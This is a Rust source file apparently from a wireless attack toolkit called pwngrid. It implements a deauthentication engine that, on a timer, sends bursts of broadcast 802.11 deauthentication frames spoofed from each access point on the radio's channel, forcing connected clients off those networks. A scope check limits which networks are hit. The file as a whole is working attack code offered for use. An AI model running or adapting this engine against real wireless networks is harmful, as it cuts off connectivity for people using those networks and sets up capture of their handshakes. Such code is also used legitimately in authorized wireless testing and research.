//! Deauthentication engine
//!
//! Each cycle copies the beacon registry, releases the lock, then for every
//! access point seen on the channel the radio is tuned to sends a burst of
//! broadcast deauthentication frames spoofed from that access point. The
//! radio is put back on its original channel when the cycle ends.
//!
//! Only access points inside the configured [`TargetScope`] are ever
//! addressed. Everything else in the snapshot is counted as out of scope and
//! skipped.

use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use pwngrid_core::{
    Attack, AttackContext, AttackStatsCounters, GridConfig, MacAddr, Radio, Result, TargetScope,
};
use pwngrid_frame::builder::{self, REASON_PREV_AUTH_INVALID};
use tokio::time;
use tracing::{debug, info, warn};

use crate::registry::{is_authorized, BeaconRegistry, SsidBook};

/// Default period between deauthentication cycles
pub const DEFAULT_DEAUTH_PERIOD: Duration = Duration::from_secs(30);

/// Outcome of one deauthentication cycle
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct DeauthReport {
    /// Entries in the registry snapshot
    pub snapshot_len: usize,
    /// Entries on the current channel and inside the scope
    pub targeted: usize,
    /// Entries on the current channel but outside the scope
    pub out_of_scope: usize,
    pub frames_sent: usize,
    pub errors: usize,
}

pub struct DeauthEngine {
    registry: Arc<BeaconRegistry>,
    ssids: Arc<SsidBook>,
    scope: TargetScope,
    burst: usize,
}

impl DeauthEngine {
    pub fn new(registry: Arc<BeaconRegistry>, ssids: Arc<SsidBook>, config: &GridConfig) -> Self {
        Self {
            registry,
            ssids,
            scope: config.scope.clone(),
            burst: config.deauth_burst,
        }
    }

    /// Run one cycle against `radio`.
    ///
    /// Transmit failures abandon the burst for that target and the cycle
    /// moves on. Only a failure to restore the original channel is returned.
    pub fn run_cycle(&self, radio: &dyn Radio, stats: &AttackStatsCounters) -> Result<DeauthReport> {
        let snapshot = self.registry.snapshot();
        let mut report = DeauthReport {
            snapshot_len: snapshot.len(),
            ..Default::default()
        };
        if snapshot.is_empty() {
            return Ok(report);
        }

        let original = radio.channel();

        for entry in snapshot.iter().filter(|e| e.channel == original) {
            if !is_authorized(&self.scope, &self.ssids, &entry.mac) {
                report.out_of_scope += 1;
                stats.increment_out_of_scope();
                continue;
            }
            report.targeted += 1;

            if radio.channel() != entry.channel {
                if let Err(e) = radio.set_channel(entry.channel) {
                    warn!(bssid = %entry.mac, channel = %entry.channel, error = %e, "Channel switch failed");
                    report.errors += 1;
                    stats.increment_errors();
                    continue;
                }
            }

            self.burst_at(radio, entry.mac, stats, &mut report);
        }

        if radio.channel() != original {
            radio.set_channel(original)?;
        }

        stats.increment_cycles();
        debug!(
            snapshot = report.snapshot_len,
            targeted = report.targeted,
            sent = report.frames_sent,
            "Deauth cycle done"
        );
        Ok(report)
    }

    fn burst_at(
        &self,
        radio: &dyn Radio,
        bssid: MacAddr,
        stats: &AttackStatsCounters,
        report: &mut DeauthReport,
    ) {
        let frame = builder::deauthentication(bssid, MacAddr::broadcast(), REASON_PREV_AUTH_INVALID);
        for _ in 0..self.burst {
            match radio.transmit_raw(&frame) {
                Ok(()) => {
                    report.frames_sent += 1;
                    stats.record_sent(frame.len());
                }
                Err(e) => {
                    warn!(bssid = %bssid, error = %e, "Deauth transmit failed");
                    report.errors += 1;
                    stats.increment_errors();
                    return;
                }
            }
        }
    }
}

/// Periodic deauthentication driven by the attack executor
pub struct DeauthAttack {
    engine: Arc<DeauthEngine>,
    period: Duration,
}

impl DeauthAttack {
    pub fn new(engine: Arc<DeauthEngine>, period: Duration) -> Self {
        Self { engine, period }
    }
}

#[async_trait]
impl Attack for DeauthAttack {
    async fn execute(&self, ctx: AttackContext) -> Result<()> {
        info!(period_ms = self.period.as_millis() as u64, "Deauth cycles started");
        let mut ticker = time::interval(self.period);

        loop {
            ticker.tick().await;

            if !ctx.is_running() {
                break;
            }

            if let Err(e) = self.engine.run_cycle(ctx.radio.as_ref(), &ctx.stats) {
                ctx.stats.increment_errors();
                warn!(error = %e, "Deauth cycle failed");
            }
        }

        Ok(())
    }

    fn name(&self) -> &str {
        "deauth"
    }
}
